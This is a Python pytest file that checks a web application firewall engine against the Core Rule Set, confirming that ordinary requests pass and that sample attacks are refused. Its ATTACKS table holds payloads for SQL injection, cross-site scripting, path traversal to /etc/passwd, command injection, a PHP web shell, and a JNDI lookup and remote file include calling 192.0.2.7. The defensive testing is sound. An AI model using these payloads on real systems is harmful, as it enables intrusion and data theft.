"""The rule engine with the Core Rule Set that scripts/rules.sh fetches: its own tests, and stock rules that refuse."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote_plus

import pytest
from run import BODIES, Ask, engine, outcomes

ROOT = Path(__file__).resolve().parents[2]
RULES = Path(os.environ.get("BARTIZAN_CACHE", ROOT / ".cache")) / "rules/crs4"
STAGES = 4680

HEADERS = (
    "Host: shop.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
    "Accept: text/html,application/json;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.5\r\n"
    "Cookie: session=8f2c1d; theme=dark\r\n"
)
FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=----Bound42"
SOAP = "text/xml; charset=utf-8"


def request(target: str = "/", kind: str = "", body: str = "", headers: str = "") -> bytes:
    """A browser's request; a `POST` when there is a body."""
    data = body.encode()
    about = f"Content-Type: {kind}\r\nContent-Length: {len(data)}\r\n" if body else ""
    method = "POST" if body else "GET"
    return f"{method} {target} HTTP/1.1\r\n{HEADERS}{headers}{about}\r\n".encode() + data


def part(name: str, content: str, file: str = "") -> str:
    """A body of one part."""
    given = f'; filename="{file}"\r\nContent-Type: text/plain' if file else ""
    head = f'Content-Disposition: form-data; name="{name}"{given}'
    return f"------Bound42\r\n{head}\r\n\r\n{content}\r\n------Bound42--\r\n"


ORDINARY = {
    "front page": request(),
    "search": request("/search?q=red+shoes&page=2&sort=price"),
    "form": request("/login", FORM, "user=alice%40shop.test&password=correct+horse&next=%2Fcart"),
    "json": request(
        "/api/cart", "application/json", json.dumps({"items": [{"id": 7, "name": "Tea, green"}], "gift": None})
    ),
    "xml": request("/soap", SOAP, '<?xml version="1.0"?><order number="7"><item>Tea</item></order>'),
    "field": request("/profile", MULTIPART, part("about", "I like long walks.")),
    "file": request("/upload", MULTIPART, part("picture", "some text", "holiday.txt")),
}

ATTACKS = {
    "sql": request("/item?id=" + quote_plus("1' UNION SELECT user,password FROM users-- -")),  # noqa: S608
    "sql in a form": request("/login", FORM, "user=" + quote_plus("admin' OR '1'='1' -- ") + "&password=x"),
    "sql in json": request("/api", "application/json", json.dumps({"a": [{"b": "1' UNION SELECT 1,2,version()-- -"}]})),
    "script": request("/search?q=" + quote_plus("<script>alert(document.cookie)</script>")),
    "script in xml": request("/soap", SOAP, "<a><![CDATA[<script>alert(1)</script>]]></a>"),
    "script in a field": request("/profile", MULTIPART, part("about", "<script>alert(1)</script>")),
    "file": request("/view?file=" + quote_plus("../../../../etc/passwd")),
    "remote file": request("/view?page=" + quote_plus("http://192.0.2.7/shell.txt?")),
    "command": request("/ping?host=" + quote_plus("127.0.0.1; cat /etc/passwd")),
    "php": request("/x?a=" + quote_plus("<?php system($_GET['c']); ?>")),
    "php file": request("/upload", MULTIPART, part("picture", "x", "shell.php")),
    "template": request("/x?a=" + quote_plus("${jndi:ldap://192.0.2.7/a}")),
    "java": request("/x?a=" + quote_plus("java.lang.Runtime.getRuntime().exec('id')")),
    "node": request("/x?a=" + quote_plus("require('child_process').exec('id')")),
    "session": request("/x?a=" + quote_plus("<meta http-equiv='set-cookie' content='PHPSESSID=1'>")),
    "scanner": request(headers="X-Scanner: sqlmap\r\n").replace(b"Mozilla/5.0", b"sqlmap/1.8"),
    "header": request("/x?a=" + quote_plus("a\r\nContent-Type: text/html\r\n\r\n<html>")),
}


@pytest.fixture(scope="session")
def rules() -> Path:
    """The Core Rule Set."""
    subprocess.run(["sh", ROOT / "scripts/rules.sh"], check=True)
    return RULES


@pytest.fixture(scope="session")
def judge() -> Path:
    """The engine as a program, as `make test-programs` builds it."""
    command = ["cargo", "build", "--locked", "-p", "defender-waf", "--example", "judge", "--message-format", "json"]
    built = subprocess.run(command, cwd=ROOT / "defender", check=True, capture_output=True)
    messages = (json.loads(line) for line in built.stdout.splitlines())
    return next(Path(one["executable"]) for one in messages if one.get("executable"))


@pytest.fixture(scope="session")
def stock(judge: Path, rules: Path) -> Iterator[Ask]:
    """The engine with rules as they are delivered: paranoia level 1, and it refuses."""
    before = f"SecRuleEngine On\n{BODIES}\n{(rules / 'setup.conf').read_text()}"
    with engine(judge, rules / "rules", before) as ask:
        yield ask


def test_all_of_the_rule_sets_own_tests_hold(judge: Path, rules: Path) -> None:
    """Every stage of the Core Rule Set's regression tests holds, but for the exceptions that run.py names."""
    faults = {stage.name: fault for stage, _, fault in outcomes(judge, rules / "rules", rules / "tests")}

    assert {name: fault for name, fault in faults.items() if fault} == {}
    assert len(faults) == STAGES


def test_the_prefilter_changes_nothing(judge: Path, rules: Path) -> None:
    """Both ways of judging, with the prefilter and rule by rule, find the same in the rule set's own requests."""
    judged = outcomes(judge, rules / "rules", rules / "tests", both=True, step=4)
    faults = {stage.name: fault for stage, _, fault in judged}

    assert {name: fault for name, fault in faults.items() if fault} == {}
    assert len(faults) == STAGES // 4


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_requests_pass(stock: Ask, name: str) -> None:
    """What a browser sends passes the stock rules."""
    answer = stock(ORDINARY[name], b"")

    assert answer.status == 200, answer


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_are_refused(stock: Ask, name: str) -> None:
    """One attack of each class is refused by the stock rules."""
    answer = stock(ATTACKS[name], b"")

    assert answer.status == 403, answer
